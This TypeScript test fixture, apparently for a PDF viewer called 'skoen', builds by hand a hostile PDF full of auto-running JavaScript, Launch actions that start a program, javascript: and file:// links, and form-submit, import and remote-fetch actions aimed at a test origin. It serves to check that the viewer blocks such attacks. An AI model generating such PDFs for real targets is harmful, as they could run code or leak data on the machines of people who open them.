// A PDF that asks for everything a reader must not do (architecture.md, Security of the shell): scripts at opening, at every event of
// document, page and field, programs to start, forms to send, files to fetch and to import. Written by hand: no library makes it.

/** Words on its only page. */
export const HOSTILE_WORDS = "Dokument med angreb";
/** The one link a person may follow, after being asked. */
export const uriOf = (origin: string): string => `https://${origin}/uri`;
/** Left in the global scope by any script of the file that runs. */
export const RAN = "skoenAttacked";

const string = (text: string): string => `(${text.replaceAll(/[\\()]/gu, (c) => `\\${c}`)})`;

/**
 * @param origin host and port that whatever reaches for the network would reach
 * @param program an executable that leaves a trace when it is started
 */
export function hostilePdf(origin: string, program: string): Buffer {
  const js = (where: string): string =>
    `<< /S /JavaScript /JS ${string(
      `globalThis.${RAN} = "${where}"; this.${RAN} = "${where}"; ` +
        `try { app.alert("${where}"); } catch (e) {} try { app.launchURL("http://${origin}/${where}", true); } catch (e) {} ` +
        `try { this.submitForm("http://${origin}/${where}"); } catch (e) {} try { fetch("http://${origin}/${where}"); } catch (e) {}`,
    )} >>`;
  const file = (name: string): string => `<< /Type /Filespec /F ${string(name)} /UF ${string(name)} >>`;
  const url = (path: string): string => `<< /Type /Filespec /FS /URL /F ${string(`http://${origin}/${path}`)} >>`;
  const actions = [
    js("link"),
    `<< /S /Launch /F ${file(program)} /NewWindow true >>`,
    `<< /S /Launch /F ${string(program)} /Unix << /F ${string(program)} >> /Win << /F ${string(program)} /O (open) >> >>`,
    `<< /S /URI /URI ${string(uriOf(origin))} >>`,
    `<< /S /URI /URI ${string(`http://${origin}/plain`)} >>`,
    `<< /S /URI /URI ${string(`file://${program}`)} >>`,
    `<< /S /URI /URI ${string(`javascript:globalThis.${RAN}='uri'`)} >>`,
    "<< /S /URI /URI (app://skoen/index.html) >>",
    `<< /S /SubmitForm /F ${url("submit")} /Flags 4 >>`,
    `<< /S /ImportData /F ${url("import")} >>`,
    `<< /S /GoToR /F ${url("remote")} /D [0 /Fit] /NewWindow true >>`,
    `<< /S /GoToE /T << /R /C /N (lag.pdf) >> /D [0 /Fit] >>`,
    "<< /S /Named /N /SaveAs >>",
  ];
  const rect = (i: number): string => `[72 ${700 - i * 40} 240 ${724 - i * 40}]`;
  const links = actions.map(
    (action, i) =>
      `<< /Type /Annot /Subtype /Link /Rect ${rect(i)} /Border [0 0 1] /A ${action} /AA << /E ${js("enter")} /U ${js("up")} >> >>`,
  );
  const fieldActions = `<< /K ${js("key")} /F ${js("format")} /V ${js("validate")} /C ${js("calculate")} /E ${js("over")} /Fo ${js("focus")} /PV ${js("visible")} >>`;
  const head = 4;
  const fields = [
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (sum) /V (1) /Rect [300 600 480 624] /F 4 /P 3 0 R /DA (/F1 12 Tf 0 g) /AA ${fieldActions} >>`,
    `<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (knap) /Rect [300 560 480 584] /F 4 /P 3 0 R /MK << /CA (Send) >> /A ${js("button")} /AA ${fieldActions} >>`,
  ];
  const drawn = `BT /F1 18 Tf 72 760 Td (${HOSTILE_WORDS}) Tj ET`;
  const annotations = [...links, ...fields];
  const [first, sum] = [head + 2, head + 2 + links.length];
  const refs = annotations.map((_, i) => `${first + i} 0 R`).join(" ");
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js("open")} /AA << /WC ${js("close")} /WS ${js("save")} /WP ${js("print")} >>
       /Names << /JavaScript << /Names [(start) ${js("names")}] >> >>
       /AcroForm << /Fields [${sum} 0 R ${sum + 1} 0 R] /CO [${sum} 0 R] /NeedAppearances true /DA (/F1 12 Tf 0 g) /DR << /Font << /F1 5 0 R >> >> >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >>
       /AA << /O ${js("page-open")} /C ${js("page-close")} >> /Annots [${refs}] >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...annotations,
  ];
  let body = "%PDF-1.7\n";
  const offsets = objects.map((object, i) => {
    const at = body.length;
    body += `${i + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const table = offsets.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  const size = objects.length + 1;
  return Buffer.from(
    `${body}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`,
    "latin1",
  );
}
